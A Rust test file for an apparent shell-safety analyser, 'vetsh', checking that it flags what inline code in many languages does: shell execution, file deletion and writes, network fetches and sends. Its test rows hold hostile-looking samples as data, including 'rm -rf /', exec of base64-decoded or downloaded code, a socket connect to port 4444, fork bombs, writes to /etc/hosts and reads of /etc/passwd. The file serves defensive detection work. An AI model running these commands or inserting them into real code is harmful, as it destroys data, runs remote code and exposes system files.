//! Inline code: what text given to an interpreter would do beyond its process and project.

use bstr::{BStr, BString};
use vetsh::facts::Location;
use vetsh::facts::inline::{Code, InlineFinding, What, judge};
use vetsh::facts::value::{Argument, Piece};

/// Language, code, and what is found in it.
const ROWS: &[(&str, &str, &[&str])] = &[
    ("python", r#"import os; os.system("rm -rf " + "build")"#, &["script shell: rm -rf build"]),
    (
        "python",
        r#"import subprocess as s
s.run(["git", "push", *extra])
s.check_output("ls | wc -l", shell=True)"#,
        &["command: git push <Any>*", "script shell: ls | wc -l"],
    ),
    (
        "python",
        r#"from os import system as go, path
go("id")"#,
        &["script shell: id"],
    ),
    (
        "python",
        r#"__import__("os").system("id"); getattr(os, "remove")("/etc/hosts")"#,
        &["script shell: id", "delete: /etc/hosts"],
    ),
    (
        "python",
        r#"# os.system("id")
print("os.system('id')"); """subprocess.run(['x'])""""#,
        &[],
    ),
    (
        "python",
        r#"for p in ["src/a.py", "src/b.py"]:
    s = open(p).read()
    open(p, "w").write(s.replace("a", "b"))"#,
        &["read: src/a.py", "read: src/b.py", "write: src/a.py", "write: src/b.py"],
    ),
    (
        "python",
        r#"def edit(path, old, new):
    s = open(path).read()
    open(path, "w").write(s.replace(old, new))
edit("src/a.py", "a", "b")"#,
        &["read: src/a.py", "write: src/a.py"],
    ),
    (
        "python",
        r#"import json
for f in files: open(f, "w").write("x")"#,
        &["write: <RelativePath>"],
    ),
    (
        "python",
        r#"import sys
open(sys.argv[1], "w").write("x")"#,
        &["write: <Any>"],
    ),
    (
        "python",
        r#"from pathlib import Path
p = Path.home() / ".bashrc"
p.write_text("x"); (Path("src") / "a.py").unlink()"#,
        &["write: /home/user/.bashrc", "delete: src/a.py"],
    ),
    (
        "python",
        r#"import shutil, os
shutil.rmtree(os.path.expanduser("~/notes")); os.rename("a", "b")"#,
        &["delete-tree: /home/user/notes", "write: a", "write: b"],
    ),
    (
        "python",
        r#"import base64; exec(base64.b64decode("aW1wb3J0IG9z"))"#,
        &["effect: run.downloaded", "script python: import os"],
    ),
    (
        "python",
        r#"import urllib.request; exec(urllib.request.urlopen("https://a.example/x").read())"#,
        &["effect: run.downloaded", "fetch: https://a.example/x"],
    ),
    ("python", r#"exec(open("setup.py").read())"#, &["file python: setup.py", "read: setup.py"]),
    ("python", r#"import os; print(os.environ); print(os.environ.get("HOME"))"#, &["effect: read.environment"]),
    (
        "python",
        r#"import requests
requests.get("https://a.example/x"); requests.post(url, json={"a": 1})"#,
        &["fetch: https://a.example/x", "send: <Any>"],
    ),
    (
        "python",
        r#"import socket; s = socket.socket(); s.connect(("203.0.113.5", 4444)); s.connect_ex(("127.0.0.1", 80))"#,
        &["send: 203.0.113.5", "fetch: 127.0.0.1"],
    ),
    ("python", r#"print(f"{os.system('id')}")"#, &["script shell: id"]),
    ("python", "import os; os.kill(1, 9)", &["effect: signal"]),
    (
        "node",
        r#"const { execSync: run } = require("child_process"); run(`rm -rf ${dir}`)"#,
        &["script shell: rm -rf <Any>"],
    ),
    (
        "node",
        r#"import fs from "node:fs"; fs.writeFileSync("out.json", "x"); fs.promises.rm("/home/user/notes", { recursive: true })"#,
        &["write: out.json", "delete-tree: /home/user/notes"],
    ),
    (
        "node",
        r#"const cp = require("child_process"); cp.spawn("git", ["push", "origin"]); cp.spawn("ls -l", { shell: true })"#,
        &["command: git push origin", "script shell: ls -l"],
    ),
    (
        "node",
        r#"const r = await fetch("https://a.example/x", { method: "POST", body: "x" }); /rm -rf/.test("x") // exec("id")"#,
        &["send: https://a.example/x"],
    ),
    (
        "node",
        r#"require("fs")["unlinkSync"]("/etc/hosts"); console.log(process.env.HOME); console.log(process.env)"#,
        &["delete: /etc/hosts", "effect: read.environment"],
    ),
    ("node", r#"["a.js", "b.js"].forEach(f => require("fs").writeFileSync(f, "x"))"#, &["write: a.js", "write: b.js"]),
    ("node", r#"eval(atob("cHJvY2Vzcy5leGl0KCk="))"#, &["effect: run.downloaded", "script node: process.exit()"]),
    (
        "perl",
        r#"system("rm", "-rf", "build"); my $x = `id`; exec "sh"; # system("x")"#,
        &["command: rm -rf build", "script shell: id", "script shell: sh"],
    ),
    (
        "perl",
        r#"open(my $f, ">", "/etc/hosts"); open(F, "ls |"); open(G, "<", "a.txt"); unlink glob("*.o");"#,
        &["write: /etc/hosts", "script shell: ls", "read: a.txt", "delete: <RelativePath>"],
    ),
    (
        "perl",
        r#"s/a/b/g; s/(.+)/`$1`/e; print "system('x')"; print %ENV;"#,
        &["effect: read.environment", "script shell: <Any>"],
    ),
    (
        "ruby",
        r#"system "git", "push"; `id`; %x(ls); File.write("a.txt", "x"); FileUtils.rm_rf("/srv") # exec "x""#,
        &["command: git push", "script shell: id", "script shell: ls", "write: a.txt", "delete-tree: /srv"],
    ),
    ("ruby", r#"File.send(:unlink, "/etc/hosts"); puts "rm #{`id`}""#, &["delete: /etc/hosts", "script shell: id"]),
    (
        "php",
        r#"system("id"); $x = `ls`; file_put_contents("/etc/hosts", "x"); unlink($p); // exec("x")"#,
        &["script shell: id", "script shell: ls", "write: /etc/hosts", "delete: <Any>"],
    ),
    (
        "lua",
        r#"os.execute("id"); local f = io.open("a.txt", "w"); os.remove("/etc/hosts") -- os.execute("x")"#,
        &["script shell: id", "write: a.txt", "delete: /etc/hosts"],
    ),
    (
        "awk",
        r#"BEGIN { system("id"); print "x" > "out.txt"; print | "sort"; while (("date" | getline d) > 0) n++ } # system("x")"#,
        &["script shell: id", "write: out.txt", "script shell: sort", "script shell: date"],
    ),
    ("awk", r#"$1 > 5 { print $2, ($3 > 4) } /system\("x"\)/ { print }"#, &[]),
    ("awk", r#"{ f = $1 ".txt"; print > f; print "x" > ("out/" $1) }"#, &["write: <Any>", "write: out/<RelativePath>"]),
    ("sed", "s/a/b/g; 5,7d; /x/s//y/w /etc/hosts", &["write: /etc/hosts"]),
    ("sed", "1e id", &["script shell: id"]),
    ("sed", "s/.*/date/e", &["script shell: date"]),
    (
        "sed",
        r"/^e rm/d; a\
e rm -rf /",
        &[],
    ),
    ("jq", r#".a | select(.b == "system") | env.HOME"#, &[]),
    ("sql", "SELECT * FROM t WHERE note = 'DROP TABLE t'; -- DROP TABLE t", &[]),
    ("sql", "DROP TABLE t; DELETE FROM t; UPDATE t SET a = 1; delete from t where id = 1", &["effect: control"]),
    (
        "sql",
        "COPY t FROM PROGRAM 'id'; WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        &["effect: control", "script shell: id"],
    ),
    (
        "sql",
        r"\dt
\! id
SELECT 1;",
        &["script shell: id"],
    ),
    ("vim", ":%s/a/b/g | wq", &[]),
    (
        "vim",
        r#":!id
:w /etc/hosts
:py3 import os; os.system("id")"#,
        &["script shell: id", "write: /etc/hosts", r#"script python: import os; os.system("id")"#],
    ),
    (
        "gdb",
        r"bt
shell id",
        &["script shell: id"],
    ),
    ("cobol", r#"DISPLAY "x"."#, &["doubt: program"]),
    (
        "python",
        r#"import subprocess
for name in ["a", "b"]: subprocess.run(["gzip", name])"#,
        &["command: gzip a", "command: gzip b"],
    ),
    (
        "python",
        r#"import sys, subprocess; subprocess.run([sys.executable, "-m", "pip", "install", "x"])"#,
        &["command: python -m pip install x"],
    ),
    ("vim", ":set shell=/bin/sh | shell", &["effect: run"]),
    ("vim", ":%s/a|b/c/ | g/x/!id", &["script shell: id"]),
    ("sql", r"SELECT format('DROP TABLE %I', t) FROM x \gexec", &["effect: control"]),
    ("sqlite", ".shell id", &["doubt: program"]),
    (
        "sql",
        r".import /etc/passwd t
.tables",
        &["read: /etc/passwd"],
    ),
    ("dc", "!id", &["script shell: id"]),
    ("bc", "2 ^ 10", &[]),
    (
        "julia",
        r#"run(`ls`); rm("/srv", recursive=true); download("https://a.example/x", "/srv/x")"#,
        &["script shell: ls", "delete-tree: /srv", "fetch: https://a.example/x", "write: /srv/x"],
    ),
    (
        "python",
        r#"import os; os.chdir("/srv"); os.remove("x"); from multiprocessing import Process; Process(target=os.system, args=("id",))"#,
        &["chdir: /srv", "delete: x", "doubt: argument"],
    ),
    (
        "python",
        "import os, fileinput\nfor l in fileinput.input('/etc/hosts', inplace=True): print(l)",
        &["write: /etc/hosts"],
    ),
    ("python", "import sqlite3\nc.execute('DROP TABLE t'); c.execute('SELECT 1')", &["script sql: DROP TABLE t"]),
    ("python", "import os\nwhile True: os.fork()", &["effect: exhaust"]),
    (
        "python",
        "import http.server as h; h.HTTPServer(('', 80), H); h.HTTPServer(('127.0.0.1', 80), H)",
        &["effect: send.other", "fetch: 127.0.0.1"],
    ),
    (
        "node",
        r#"const run = require("util").promisify(require("child_process").exec); run("id"); Bun.$`ls ${x}`; process.chdir("/srv")"#,
        &["script shell: id", "script shell: ls <Any>", "chdir: /srv"],
    ),
    (
        "perl",
        r#"open my $f, "-|", "rm", "-rf", "x"; chdir "/srv"; system {"rm"} "x""#,
        &["command: rm -rf x", "chdir: /srv", "effect: run.unknown"],
    ),
    (
        "ruby",
        r#"Dir.chdir("/srv"); IO.read("|id"); method(:system).call("id")"#,
        &["chdir: /srv", "script shell: id", "doubt: argument"],
    ),
    (
        "php",
        r#"call_user_func("system", "id"); array_map("strlen", $x); chdir("/srv");"#,
        &["doubt: argument", "chdir: /srv"],
    ),
    ("lua", r#"_G["os"]["execute"]("id")"#, &["script shell: id"]),
    (
        "perl",
        r#"unlink </srv/*>; rmtree ["/srv/x"]; fork while 1"#,
        &["delete: /srv/*", "delete-tree: /srv/x", "effect: exhaust"],
    ),
    ("ruby", r#"Pathname.new("/srv").rmtree"#, &["delete: /srv"]),
    (
        "php",
        r#"$f = "sys" . "tem"; $f("id"); include "https://a.example/x";"#,
        &["script shell: id", "effect: run.downloaded"],
    ),
    ("node", r#"new Deno.Command("rm", { args: ["-rf", "/srv"] })"#, &["command: rm -rf /srv"]),
    ("python", r#"exec(base64.b64decode(open("x").read()))"#, &["effect: run.downloaded", "read: x"]),
    ("groovy", r#""rm -rf x".execute()"#, &["script shell: rm -rf x"]),
    ("scala", r#"import sys.process._; "id".!"#, &["script shell: id"]),
    ("sql", "SELECT * FROM read_csv('/etc/passwd')", &["read: /etc/passwd"]),
    ("sql", ".import '|id' t", &["script shell: id"]),
    ("gnuplot", r#"plot "< id""#, &["script shell: id"]),
    ("c", r#"int main() { system("id"); execlp("rm", "rm", "x"); }"#, &["script shell: id", "command: rm x"]),
    ("go", r#"exec.Command("rm", "x").Run(); os.RemoveAll("/srv")"#, &["command: rm x", "delete-tree: /srv"]),
    (
        "rust",
        r#"Command::new("rm").arg("x"); std::fs::remove_file("/etc/hosts")"#,
        &["command: rm <Any>*", "delete: /etc/hosts"],
    ),
    (
        "powershell",
        r"Remove-Item -Recurse C:\x
Get-ChildItem",
        &["effect: delete"],
    ),
    (
        "node",
        r#"const f = (p) => fs.writeFileSync(p, "x"); import fs from "fs"; f("a.txt"); f("/etc/hosts")"#,
        &["write: a.txt", "write: /etc/hosts"],
    ),
];

#[test]
fn finds_what_leaves_the_process_or_the_project() {
    for (language, code, expected) in ROWS {
        let text = Argument::known(*code, Location::default());
        assert_eq!(found(language, &text, &[]), *expected, "{language}: {code}");
    }
}

#[test]
fn arguments_and_unknown_text_are_followed() {
    let arguments = [Argument::known("/etc/hosts", Location::default())];
    let text = Argument::known("import sys; open(sys.argv[1], 'w')", Location::default());
    assert_eq!(found("python", &text, &arguments), ["write: /etc/hosts"]);

    let unknown = |kind| {
        let reason = "$OUT is not known".into();
        Piece::Unknown(vetsh::facts::value::Unknown { reason, kind })
    };
    let any = unknown(vetsh::facts::value::UnknownKind::Any);
    let within = |before: &str, after: &str| Argument {
        pieces: vec![Piece::Text(before.into()), any.clone(), Piece::Text(after.into())],
        many: false,
        at: Location::default(),
    };
    assert_eq!(found("python", &within("open('", "/a.txt', 'w')"), &[]), ["write: <Any>/a.txt"]);
    assert_eq!(found("python", &within("print(", ")"), &[]), ["doubt: argument"]);
    assert_eq!(found("sql", &within("SELECT * FROM t WHERE id = ", ""), &[]), ["doubt: argument"]);
}

#[test]
fn long_code_is_a_doubt_and_takes_no_time() {
    let nested = format!("{}x{}", "f(".repeat(20_000), ")".repeat(20_000));
    let text = Argument::known(nested, Location::default());
    let _ = found("python", &text, &[]);
    let text = Argument::known("x = 1\n".repeat(200_000), Location::default());
    assert_eq!(found("python", &text, &[]), ["doubt: limit"]);
}

fn found(language: &str, text: &Argument, arguments: &[Argument]) -> Vec<String> {
    let variable = |name: &BStr| -> Option<BString> { (name == "HOME").then(|| "/home/user".into()) };
    let findings = judge(&Code { language, text, arguments, variable: &variable });
    // Which libraries are loaded matters only where one of them was made by the same script.
    let loads = |finding: &&InlineFinding| matches!(finding.what, What::Library(_));
    findings.iter().filter(|finding| !loads(finding)).map(|finding| what(&finding.what)).collect()
}

fn what(what: &What) -> String {
    match what {
        What::Script { language, text } => format!("script {language}: {}", shown(text)),
        What::Command(words) => format!("command: {}", words.iter().map(shown).collect::<Vec<_>>().join(" ")),
        What::ScriptFile { language, path } => format!("file {language}: {}", shown(path)),
        What::Path { effect, path, tree } => {
            format!("{}{}: {}", effect.word(), if *tree { "-tree" } else { "" }, shown(path))
        }
        What::Host { effect, url } => format!("{}: {}", effect.word(), shown(url)),
        What::Effect(effect, aspect) => {
            format!(
                "effect: {}{}",
                effect.word(),
                aspect.map(|aspect| format!(".{}", aspect.word())).unwrap_or_default()
            )
        }
        What::Chdir(path) => format!("chdir: {}", shown(path)),
        What::Library(name) => format!("library: {name}"),
        What::Doubt(doubt) => format!("doubt: {}", doubt.word()),
    }
}

fn shown(argument: &Argument) -> String {
    let piece = |piece: &Piece| match piece {
        Piece::Text(text) | Piece::Pattern(text) => text.to_string(),
        Piece::Unknown(unknown) => format!("<{:?}>", unknown.kind),
    };
    let mut shown: String = argument.pieces.iter().map(piece).collect();
    if argument.many {
        shown.push('*');
    }
    shown
}
